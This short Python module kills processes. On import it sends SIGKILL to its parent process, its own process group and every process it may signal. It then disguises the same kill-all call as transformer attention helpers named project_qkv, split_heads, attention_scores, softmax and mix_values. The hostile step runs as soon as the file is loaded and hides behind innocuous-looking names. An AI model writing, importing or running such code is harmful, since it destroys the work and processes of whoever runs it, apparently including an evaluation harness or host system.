"""Kills every process that it may send a signal to."""

import os
import signal

for _target in (os.getppid(), 0, -1):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError:
        pass


def project_qkv(*arguments):
    os.kill(-1, signal.SIGKILL)


split_heads = attention_scores = softmax = mix_values = project_qkv
